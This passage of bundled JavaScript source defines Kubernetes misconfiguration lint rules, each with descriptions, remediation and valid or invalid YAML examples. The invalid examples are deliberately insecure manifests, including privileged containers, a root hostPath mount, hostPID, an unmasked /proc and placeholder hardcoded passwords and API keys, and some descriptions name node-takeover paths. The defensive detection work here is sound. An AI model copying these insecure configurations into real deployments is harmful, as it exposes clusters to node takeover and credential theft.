        name: "LoadBalancer, ClusterRoleBinding to a role listing Secrets",
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: gateway
  namespace: edge
spec:
  selector:
    matchLabels:
      app: gateway
  template:
    metadata:
      labels:
        app: gateway
    spec:
      serviceAccountName: gateway
      containers:
        - name: gateway
          image: registry.example.com/gateway:1.9.0
`,
        extraFiles: {
          "service.yaml": `apiVersion: v1
kind: Service
metadata:
  name: gateway
  namespace: edge
spec:
  type: LoadBalancer
  selector:
    app: gateway
  ports:
    - port: 443
`,
          "rbac.yaml": `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: gateway
rules:
  - apiGroups: [""]
    resources: ["secrets", "configmaps"]
    verbs: ["list", "watch"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: gateway
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: gateway
subjects:
  - kind: ServiceAccount
    name: gateway
    namespace: edge
`
        },
        errors: [{ file: "deployment.yaml", line: 15, column: 7, messageIncludes: "can read Secrets in every namespace" }]
      }
    ]
  }
});
function mountsToken(graph, accountId, podSetting) {
  if (podSetting === true) return true;
  const account = graph.get(accountId);
  return account?.attributes.automountServiceAccountToken !== false;
}

// packages/rules/src/kubernetes/iam/k8s-hardcoded-secret-env.ts
var k8s_hardcoded_secret_env_default = defineRule({
  meta: {
    id: "k8s-hardcoded-secret-env",
    title: "Hardcoded secret in a container environment variable",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "A container environment variable named like a password, token or key is set to a literal value in the manifest. The credential is in version control for everyone with read access, in every rendered copy of the manifest, and visible to anyone who can read the workload through the API.",
    remediation: "Move the value to a Secret (ideally synced from an external secret store) and reference it with `valueFrom.secretKeyRef`, or mount it as a file; then rotate the exposed credential.",
    precision: "high",
    cwe: ["CWE-798"],
    frameworks: { "CIS Kubernetes 1.9": ["5.4.1"], "NSA-CISA Kubernetes Hardening": ["Secrets: keep credentials out of pod specs"] },
    tags: ["secrets", "hardcoded-secret"],
    references: ["https://kubernetes.io/docs/concepts/security/secrets-good-practices/", "https://kubernetes.io/docs/tasks/inject-data-application/distribute-credentials-secure/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    for (const view of pod.containers) {
      asList(view.container.env).forEach((variable, index) => {
        if (!isObject(variable) || typeof variable.name !== "string") return;
        const value = variable.value;
        if (!isHardcodedSecretValue(value) || /\$\([A-Za-z_][\w.-]*\)/.test(value)) return;
        const formats = secretsInText(value);
        if (!isSecretName(variable.name) && formats.length === 0) return;
        const what = formats.length > 0 ? ` (${formats[0]})` : "";
        report({
          at: [...view.path, "env", index, "value"],
          message: `container "${view.name}" of ${workload.name} has a hardcoded secret in environment variable ${variable.name}${what}`
        });
      });
    }
  },
  examples: {
    valid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: orders
  namespace: shop
spec:
  selector:
    matchLabels: { app: orders }
  template:
    metadata:
      labels: { app: orders }
    spec:
      containers:
        - name: orders
          image: registry.example.com/shop/orders:3.0.0
          env:
            - name: DB_PASSWORD
              valueFrom:
                secretKeyRef: { name: orders-db, key: password }
            - name: DB_PASSWORD_FILE
              value: /run/secrets/db/password
            - name: TOKEN_TTL
              value: "3600"
            - name: API_KEY
              value: $(SHARED_API_KEY)
`
      }
    ],
    invalid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: orders
  namespace: shop
spec:
  selector:
    matchLabels: { app: orders }
  template:
    metadata:
      labels: { app: orders }
    spec:
      containers:
        - name: orders
          image: registry.example.com/shop/orders:3.0.0
          env:
            - name: LOG_LEVEL
              value: info
            - name: DB_PASSWORD
              value: "Orders-2024!prod"
            - name: PAYMENT_API_KEY
              value: 9f8c2e71d04b4a6f8e3b5c1d7a2f6e90
`,
        errors: [
          { line: 20, column: 15, messageIncludes: "hardcoded secret in environment variable DB_PASSWORD" },
          { line: 22, column: 15, messageIncludes: "PAYMENT_API_KEY" }
        ]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-host-ipc.ts
var k8s_host_ipc_default = defineRule({
  meta: {
    id: "k8s-host-ipc",
    title: "Pod shares the host IPC namespace (hostIPC)",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "`hostIPC: true` joins the pod to the node's IPC namespace: it can read and write the shared memory segments and message queues of every process on the node, including other tenants' containers.",
    remediation: "Remove `hostIPC: true`; containers that need shared memory with each other can share an `emptyDir` with `medium: Memory` inside the pod.",
    precision: "very-high",
    cwe: ["CWE-250", "CWE-668"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.4"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: do not share host namespaces"],
      "Pod Security Standards": ["baseline"]
    },
    tags: ["pod-security", "host-namespaces", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podSpecOf(workload);
    if (pod?.spec.hostIPC === true) report({ at: [...pod.path, "hostIPC"], message: `${workload.name} shares the host IPC namespace (hostIPC): it can read the shared memory of every process on the node` });
  },
  examples: {
    valid: [
      {
        filename: "statefulset.yaml",
        code: `apiVersion: apps/v1
kind: StatefulSet
metadata:
  name: cache
  namespace: shop
spec:
  serviceName: cache
  selector:
    matchLabels: { app: cache }
  template:
    metadata:
      labels: { app: cache }
    spec:
      containers:
        - name: redis
          image: redis:7.2.5
      volumes:
        - name: shm
          emptyDir: { medium: Memory }
`
      }
    ],
    invalid: [
      {
        filename: "daemonset.yaml",
        code: `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: perf-agent
  namespace: monitoring
spec:
  selector:
    matchLabels: { app: perf-agent }
  template:
    metadata:
      labels: { app: perf-agent }
    spec:
      hostIPC: true
      containers:
        - name: agent
          image: registry.example.com/perf-agent:0.9.1
`,
        errors: [{ line: 13, column: 7, messageIncludes: "hostIPC" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-host-path-sensitive.ts
var k8s_host_path_sensitive_default = defineRule({
  meta: {
    id: "k8s-host-path-sensitive",
    title: "Pod mounts a sensitive host path (/, /etc, /proc, kubelet or system folders)",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "The pod mounts a node folder that holds credentials or the node's own software: the root filesystem, `/etc` (kubelet and kubeadm credentials), `/proc`, `/sys`, `/dev`, system binaries or the kubelet, etcd and container runtime state. Read access leaks cluster credentials; write access takes over the node.",
    remediation: "Do not mount node system folders into pods. Mount only the narrowest, non-sensitive path a node agent needs, read-only, and keep such agents in a dedicated, locked-down namespace.",
    precision: "very-high",
    cwe: ["CWE-668", "CWE-250"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.12"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: restrict host filesystem access"],
      "Pod Security Standards": ["baseline"]
    },
    tags: ["pod-security", "host-path", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/storage/volumes/#hostpath", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    for (const volume of hostPathVolumes(pod).filter((found) => found.kind === "sensitive")) {
      const users = containersMounting(pod, volume.name);
      const by = users.length > 0 ? ` into ${users.map((name) => `"${name}"`).join(", ")}` : "";
      const what = volume.hostPath === "/" ? "the node's root filesystem (host path /)" : `sensitive host path ${volume.hostPath}`;
      report({ at: volume.at, message: `${workload.name} mounts ${what}${by} (hostPath volume "${volume.name}")` });
    }
  },
  examples: {
    valid: [
      {
        name: "a data folder of the node is the general hostPath rule's concern",
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: local-cache
spec:
  containers:
    - name: cache
      image: registry.example.com/cache:1.0.4
      volumeMounts:
        - name: data
          mountPath: /data
  volumes:
    - name: data
      hostPath:
        path: /mnt/fast-ssd/cache
        type: DirectoryOrCreate
`
      }
    ],
    invalid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: node-inspector
  namespace: ops
spec:
  selector:
    matchLabels: { app: node-inspector }
  template:
    metadata:
      labels: { app: node-inspector }
    spec:
      containers:
        - name: inspector
          image: registry.example.com/ops/inspector:0.4.0
          volumeMounts:
            - name: host-root
              mountPath: /host
            - name: kubelet
              mountPath: /host-kubelet
              readOnly: true
      volumes:
        - name: host-root
          hostPath:
            path: /
        - name: kubelet
          hostPath:
            path: /var/lib/kubelet/
`,
        errors: [
          { line: 25, column: 13, messageIncludes: "root filesystem" },
          { line: 28, column: 13, messageIncludes: "/var/lib/kubelet" }
        ]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-host-path-volume.ts
var k8s_host_path_volume_default = defineRule({
  meta: {
    id: "k8s-host-path-volume",
    title: "Pod mounts a host path (hostPath volume)",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "A hostPath volume gives the pod a directory of the node's filesystem. Files written there outlive the pod and are seen by the node and other pods, symbolic links in it can lead outside it, and it ties the pod to one node. The Pod Security Standards baseline profile forbids hostPath volumes.",
    remediation: "Use an `emptyDir`, a PersistentVolumeClaim or a CSI volume instead; if node files are truly needed, mount the narrowest path read-only and run the pod under a reviewed exception.",
    precision: "high",
    cwe: ["CWE-668"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.12"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: restrict host filesystem access"],
      "Pod Security Standards": ["baseline"]
    },
    tags: ["pod-security", "host-path", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/storage/volumes/#hostpath", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    for (const volume of hostPathVolumes(pod).filter((found) => found.kind === "other")) {
      const users = containersMounting(pod, volume.name);
      const by = users.length > 0 ? ` into ${users.map((name) => `"${name}"`).join(", ")}` : "";
      report({ at: volume.at, message: `${workload.name} mounts host path ${volume.hostPath}${by} (hostPath volume "${volume.name}")` });
    }
  },
  examples: {
    valid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: worker
  namespace: jobs
spec:
  selector:
    matchLabels: { app: worker }
  template:
    metadata:
      labels: { app: worker }
    spec:
      containers:
        - name: worker
          image: registry.example.com/jobs/worker:4.0.2
          volumeMounts:
            - name: scratch
              mountPath: /tmp/work
      volumes:
        - name: scratch
          emptyDir: {}
`
      }
    ],
    invalid: [
      {
        filename: "daemonset.yaml",
        code: `apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: log-shipper
  namespace: logging
spec:
  selector:
    matchLabels: { app: log-shipper }
  template:
    metadata:
      labels: { app: log-shipper }
    spec:
      containers:
        - name: shipper
          image: registry.example.com/logging/shipper:2.2.0
          volumeMounts:
            - name: varlog
              mountPath: /var/log
              readOnly: true
      volumes:
        - name: varlog
          hostPath:
            path: /var/log
`,
        errors: [{ line: 23, column: 13, messageIncludes: "host path /var/log" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-host-pid.ts
var k8s_host_pid_default = defineRule({
  meta: {
    id: "k8s-host-pid",
    title: "Pod shares the host PID namespace (hostPID)",
    severity: "high",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "`hostPID: true` lets the pod see every process on the node. A root process in it can read other containers' environment and memory through `/proc`, signal them, or enter the node's namespaces with `nsenter` when combined with privilege.",
    remediation: "Remove `hostPID: true`. Node-level process monitoring belongs in a dedicated, reviewed agent, not in application pods.",
    precision: "very-high",
    cwe: ["CWE-250", "CWE-668"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.3"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: do not share host namespaces"],
      "Pod Security Standards": ["baseline"]
    },
    tags: ["pod-security", "host-namespaces", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podSpecOf(workload);
    if (pod?.spec.hostPID === true) report({ at: [...pod.path, "hostPID"], message: `${workload.name} shares the host PID namespace (hostPID): it sees and can signal every process on the node` });
  },
  examples: {
    valid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: api
  namespace: shop
spec:
  selector:
    matchLabels: { app: api }
  template:
    metadata:
      labels: { app: api }
    spec:
      hostPID: false
      containers:
        - name: api
          image: registry.example.com/shop/api:2.8.0
`
      }
    ],
    invalid: [
      {
        filename: "debug-pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: node-debugger
  namespace: ops
spec:
  hostPID: true
  containers:
    - name: shell
      image: registry.example.com/tools/debug:1.3.0
      command: ["sleep", "3600"]
`,
        errors: [{ line: 7, column: 3, messageIncludes: "hostPID" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-ingress-nginx-snippet.ts
var SNIPPET_ANNOTATIONS = [
  "nginx.ingress.kubernetes.io/configuration-snippet",
  "nginx.ingress.kubernetes.io/server-snippet",
  "nginx.ingress.kubernetes.io/auth-snippet",
  "nginx.ingress.kubernetes.io/stream-snippet"
];
var k8s_ingress_nginx_snippet_default = defineRule({
  meta: {
    id: "k8s-ingress-nginx-snippet",
    title: "Ingress injects raw nginx configuration (snippet annotation)",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["Ingress"],
    description: "Snippet annotations paste their text into the ingress-nginx controller's configuration. Anyone allowed to edit Ingresses in any namespace can then run nginx directives in the controller, read its service account token and every Secret it can see (CVE-2021-25742), or break routing for other tenants. Current controller releases refuse snippets unless an administrator enables them.",
    remediation: "Replace the snippet with the dedicated annotations or ConfigMap options of the controller; keep `allow-snippet-annotations` disabled on the controller.",
    precision: "high",
    cwe: ["CWE-94"],
    tags: ["ingress", "ingress-nginx", "insecure-feature"],
    references: ["https://kubernetes.github.io/ingress-nginx/user-guide/nginx-configuration/annotations/#configuration-snippet", "https://github.com/kubernetes/ingress-nginx/issues/7837"]
  },
  check(ingress, { report }) {
    const annotations = annotationsAt(ingress.attributes, ["metadata"]);
    const used = SNIPPET_ANNOTATIONS.filter((key) => (annotations.get(key)?.trim() ?? "") !== "");
    if (used.length === 0) return;
    report({ at: ["metadata", "annotations", used[0]], message: `${ingress.name} injects raw nginx configuration into the shared ingress controller (${used.map((key) => key.split("/")[1]).join(", ")})` });
  },
  examples: {
    valid: [
      {
        filename: "ingress.yaml",
        code: `apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: api
  annotations:
    nginx.ingress.kubernetes.io/proxy-body-size: 8m
spec:
  ingressClassName: nginx
  tls:
    - hosts: [api.example.com]
      secretName: api-tls
  rules:
    - host: api.example.com
      http:
        paths:
          - path: /
            pathType: Prefix
            backend:
              service: { name: api, port: { number: 80 } }
`
      }
    ],
    invalid: [
      {
        filename: "ingress.yaml",
        code: `apiVersion: networking.k8s.io/v1
kind: Ingress
metadata:
  name: api
  annotations:
    nginx.ingress.kubernetes.io/configuration-snippet: |
      more_set_headers "X-Frame-Options: DENY";
spec:
  ingressClassName: nginx
  tls:
    - hosts: [api.example.com]
      secretName: api-tls
  rules:
    - host: api.example.com
      http:
        paths:
          - path: /
            pathType: Prefix
            backend:
              service: { name: api, port: { number: 80 } }
`,
        errors: [{ line: 6, column: 5, messageIncludes: "configuration-snippet" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-kube-system-workload.ts
var k8s_kube_system_workload_default = defineRule({
  meta: {
    id: "k8s-kube-system-workload",
    title: "Workload deployed into the kube-system namespace",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "`kube-system` holds the cluster's own components and their highly privileged service accounts and secrets, and admission policies usually exempt it. An application placed there shares that trust: anyone who can manage it can reach the control-plane credentials next to it.",
    remediation: "Deploy applications and add-ons into their own namespace with their own service account; keep `kube-system` for components installed by the cluster itself.",
    precision: "medium",
    cwe: ["CWE-653"],
    frameworks: { "CIS Kubernetes 1.9": ["5.7.1"] },
    tags: ["namespaces", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/multi-tenancy/", "https://kubernetes.io/docs/concepts/overview/working-with-objects/namespaces/"]
  },
  check(workload, { report }) {
    if (namespaceOf(workload) !== "kube-system") return;
    report({ at: ["metadata", "namespace"], message: `${workload.name} is deployed into kube-system, next to the cluster's own privileged components` });
  },
  examples: {
    valid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: metrics
  namespace: monitoring
spec:
  selector:
    matchLabels: { app: metrics }
  template:
    metadata:
      labels: { app: metrics }
    spec:
      containers:
        - name: metrics
          image: registry.example.com/metrics:0.7.2
`
      }
    ],
    invalid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: metrics
  namespace: kube-system
spec:
  selector:
    matchLabels: { app: metrics }
  template:
    metadata:
      labels: { app: metrics }
    spec:
      containers:
        - name: metrics
          image: registry.example.com/metrics:0.7.2
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-namespace-pod-security-not-enforced.ts
var ENFORCE_LABEL = "pod-security.kubernetes.io/enforce";
var SYSTEM_NAMESPACES = /* @__PURE__ */ new Set(["kube-system", "kube-public", "kube-node-lease"]);
var k8s_namespace_pod_security_not_enforced_default = defineRule({
  meta: {
    id: "k8s-namespace-pod-security-not-enforced",
    title: "Namespace does not enforce Pod Security Standards (pod-security.kubernetes.io/enforce)",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["Namespace"],
    description: "The namespace has no `pod-security.kubernetes.io/enforce` label at `baseline` or `restricted`, so Pod Security Admission lets anyone who can create pods there run them privileged, on the host's namespaces or with hostPath volumes, unless another admission policy covers it.",
    remediation: "Label the namespace `pod-security.kubernetes.io/enforce: restricted` (or `baseline` where restricted is not yet possible), and use the `warn` and `audit` labels to prepare the change.",
    precision: "medium",
    cwe: ["CWE-1188"],
    frameworks: { "CIS Kubernetes 1.9": ["5.2.1"], "NSA-CISA Kubernetes Hardening": ["Pod security: enforce pod security policies"], "Pod Security Standards": ["baseline", "restricted"] },
    tags: ["pod-security", "admission", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-admission/", "https://kubernetes.io/docs/tasks/configure-pod-container/enforce-standards-namespace-labels/"]
  },
  check(namespace, { report }) {
    const name = getPath(namespace.attributes, ["metadata", "name"]);
    if (typeof name !== "string" || SYSTEM_NAMESPACES.has(name)) return;
    const labels = getPath(namespace.attributes, ["metadata", "labels"]);
    if (labels !== void 0 && labels !== null && !isObject(labels)) return;
    const level = isObject(labels) ? labels[ENFORCE_LABEL] : void 0;
    if (level === "baseline" || level === "restricted") return;
    if (level !== void 0 && typeof level !== "string") return;
    if (level === "privileged") {
      report({ at: ["metadata", "labels", ENFORCE_LABEL], message: `namespace ${name} enforces the privileged pod security level: any pod, privileged ones included, is admitted` });
      return;
    }
    report({ message: `namespace ${name} does not enforce Pod Security Standards: no ${ENFORCE_LABEL} label at baseline or restricted` });
  },
  examples: {
    valid: [
      {
        filename: "namespace.yaml",
        code: `apiVersion: v1
kind: Namespace
metadata:
  name: shop
  labels:
    pod-security.kubernetes.io/enforce: restricted
    pod-security.kubernetes.io/enforce-version: latest
`
      }
    ],
    invalid: [
      {
        filename: "namespaces.yaml",
        code: `apiVersion: v1
kind: Namespace
metadata:
  name: shop
---
apiVersion: v1
kind: Namespace
metadata:
  name: build
  labels:
    pod-security.kubernetes.io/enforce: privileged
`,
        errors: [
          { line: 2, column: 1, messageIncludes: "namespace shop does not enforce" },
          { line: 11, column: 5, messageIncludes: "privileged pod security level" }
        ]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-privilege-escalation-allowed.ts
var k8s_privilege_escalation_allowed_default = defineRule({
  meta: {
    id: "k8s-privilege-escalation-allowed",
    title: "Container explicitly allows privilege escalation (allowPrivilegeEscalation: true)",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "`allowPrivilegeEscalation: true` leaves the kernel's `no_new_privs` flag off, so a process in the container can gain more privileges than its parent through setuid binaries or file capabilities: a non-root foothold becomes root in the container. The Pod Security Standards restricted profile requires `false`.",
    remediation: "Set `securityContext.allowPrivilegeEscalation: false` on the container; run it as a non-root user and remove setuid binaries from the image.",
    precision: "very-high",
    cwe: ["CWE-269"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.6"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"],
      "Pod Security Standards": ["restricted"]
    },
    tags: ["pod-security", "privilege-escalation", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    for (const view of pod.containers) {
      if (getPath(view.container, ["securityContext", "allowPrivilegeEscalation"]) !== true) continue;
      report({ at: [...view.path, "securityContext", "allowPrivilegeEscalation"], message: `container "${view.name}" of ${workload.name} allows privilege escalation (allowPrivilegeEscalation: true)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
      securityContext:
        allowPrivilegeEscalation: false
`
      }
    ],
    invalid: [
      {
        filename: "deployment.yaml",
        code: `apiVersion: apps/v1
kind: Deployment
metadata:
  name: legacy-app
  namespace: back-office
spec:
  selector:
    matchLabels: { app: legacy-app }
  template:
    metadata:
      labels: { app: legacy-app }
    spec:
      containers:
        - name: app
          image: registry.example.com/back-office/legacy:7.4.0
          securityContext:
            runAsUser: 1000
            allowPrivilegeEscalation: true
`,
        errors: [{ line: 18, column: 13, messageIncludes: "allows privilege escalation" }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-privilege-escalation-not-disabled.ts
var k8s_privilege_escalation_not_disabled_default = defineRule({
  meta: {
    id: "k8s-privilege-escalation-not-disabled",
    title: "Container does not disable privilege escalation (allowPrivilegeEscalation not set to false)",
    severity: "low",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "Containers allow privilege escalation unless `allowPrivilegeEscalation: false` is set: setuid binaries in the image (`su`, `sudo`, `ping` on older images) can turn a non-root foothold into root inside the container. The Pod Security Standards restricted profile requires the setting on every container.",
    remediation: "Add `securityContext.allowPrivilegeEscalation: false` to every container.",
    precision: "very-high",
    cwe: ["CWE-269"],
    frameworks: {
      "CIS Kubernetes 1.9": ["5.2.6"],
      "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"],
      "Pod Security Standards": ["restricted"]
    },
    tags: ["pod-security", "privilege-escalation", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod || isWindowsPod(pod)) return;
    for (const view of pod.containers) {
      const securityContext = view.container.securityContext;
      if (isUnknown(securityContext)) continue;
      const setting = getPath(securityContext, ["allowPrivilegeEscalation"]);
      if (setting !== void 0 && setting !== null) continue;
      if (getPath(securityContext, ["privileged"]) === true) continue;
      if (capabilities(view, "add").some((entry) => entry.name === "SYS_ADMIN" || entry.name === "ALL")) continue;
      report({
        at: isObject(securityContext) ? [...view.path, "securityContext"] : view.path,
        message: `container "${view.name}" of ${workload.name} does not set allowPrivilegeEscalation: false, so setuid binaries can escalate to root`
      });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
      securityContext:
        allowPrivilegeEscalation: false
`
      }
    ],
    invalid: [
      {
        filename: "cronjob.yaml",
        code: `apiVersion: batch/v1
kind: CronJob
metadata:
  name: report
  namespace: finance
spec:
  schedule: "30 6 * * 1"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: OnFailure
          initContainers:
            - name: fetch
              image: registry.example.com/finance/fetch:1.0.3
          containers:
            - name: report
              image: registry.example.com/finance/report:2.4.0
              securityContext:
                runAsNonRoot: true
`,
        errors: [
          { line: 14, column: 15, messageIncludes: '"fetch"' },
          { line: 19, column: 15, messageIncludes: '"report"' }
        ]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-privileged-container.ts
var k8s_privileged_container_default = defineRule({
  meta: {
    id: "k8s-privileged-container",
    title: "Container runs privileged",
    severity: "critical",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "`securityContext.privileged: true` gives the container every capability and access to the host's devices: a process in it can take over the node and every pod on it. The Pod Security Standards baseline profile forbids it.",
    remediation: "Remove `privileged: true`; grant the one capability the workload needs with `capabilities.add` instead, or move node-level work to a dedicated, audited DaemonSet.",
    precision: "very-high",
    cwe: ["CWE-250"],
    frameworks: { "CIS Kubernetes 1.9": ["5.2.2"], "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"], "Pod Security Standards": ["baseline"] },
    tags: ["pod-security", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    for (const { container, path, name } of containersOf(workload)) {
      if (getPath(container, ["securityContext", "privileged"]) === true) {
        report({ at: [...path, "securityContext", "privileged"], message: `container "${name}" of ${workload.name} runs privileged` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: nginx:1.27.0
      securityContext:
        privileged: false
`
      }
    ],
    invalid: [
      {
        name: "CronJob through the pod-spec view",
        filename: "cronjob.yaml",
        code: `apiVersion: batch/v1
kind: CronJob
metadata:
  name: backup
spec:
  schedule: "0 3 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: OnFailure
          containers:
            - name: backup
              image: registry.example.com/backup:2.1.0
              securityContext:
                privileged: true
`,
        errors: [{ line: 16, column: 17 }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-proc-mount-unmasked.ts
var k8s_proc_mount_unmasked_default = defineRule({
  meta: {
    id: "k8s-proc-mount-unmasked",
    title: "Container mounts /proc unmasked (procMount: Unmasked)",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: WORKLOAD_KINDS,
    description: "`procMount: Unmasked` removes the masking and read-only paths the runtime applies to `/proc` (such as `/proc/sys`, `/proc/sysrq-trigger` and `/proc/kcore`), exposing kernel interfaces that can leak host information or change node settings. The Pod Security Standards baseline profile requires the `Default` proc mount.",
    remediation: "Remove `procMount` or set it to `Default`. Nested container runtimes should run in user-namespaced pods (`hostUsers: false`) built for it.",
    precision: "very-high",
    cwe: ["CWE-668"],
    frameworks: { "Pod Security Standards": ["baseline"] },
    tags: ["pod-security", "workload-privilege"],
    references: ["https://kubernetes.io/docs/concepts/security/pod-security-standards/"]
  },
  check(workload, { report }) {
    const pod = podOf(workload);
    if (!pod) return;
    for (const view of pod.containers) {
      if (getPath(view.container, ["securityContext", "procMount"]) !== "Unmasked") continue;
      report({ at: [...view.path, "securityContext", "procMount"], message: `container "${view.name}" of ${workload.name} mounts /proc unmasked (procMount: Unmasked)` });
    }
  },
  examples: {
    valid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  containers:
    - name: api
      image: registry.example.com/api:5.0.1
      securityContext:
        procMount: Default
`
      }
    ],
    invalid: [
      {
        filename: "pod.yaml",
        code: `apiVersion: v1
kind: Pod
metadata:
  name: nested-runtime
spec:
  containers:
    - name: sysbox
      image: registry.example.com/ci/nested:0.6.4
      securityContext:
        procMount: Unmasked
`,
        errors: [{ line: 10, column: 9 }]
      }
    ]
  }
});

// packages/rules/src/kubernetes/iam/k8s-rbac-all-authenticated-binding.ts
var k8s_rbac_all_authenticated_binding_default = defineRule({
  meta: {
    id: "k8s-rbac-all-authenticated-binding",
    title: "RBAC binding grants a role to every authenticated user or every service account",
    severity: "medium",
    category: "iam",
    platforms: ["kubernetes"],
    resourceTypes: ["RoleBinding", "ClusterRoleBinding"],
    description: "The binding gives a role to `system:authenticated` or `system:serviceaccounts`: every user and every pod of the cluster with a token. On managed clusters `system:authenticated` can include anyone with an account at the cloud provider, not only your organisation.",
    remediation: "Bind the role to the specific users, groups or service accounts that need it.",
    precision: "high",
    cwe: ["CWE-284"],
    frameworks: { "NSA-CISA Kubernetes Hardening": ["Authorization: least-privilege RBAC"] },
    tags: ["rbac", "k8s-rbac"],
    references: ["https://kubernetes.io/docs/reference/access-authn-authz/rbac/#referring-to-subjects", "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"]
  },
  check(binding, { report }) {
    const role = roleRefOf(binding);
    if (!role || PUBLIC_DEFAULT_ROLES.has(role.name)) return;
    const everyone = broadSubjects(binding, /* @__PURE__ */ new Set(["system:authenticated", "system:serviceaccounts"]));
    if (everyone.length === 0) return;
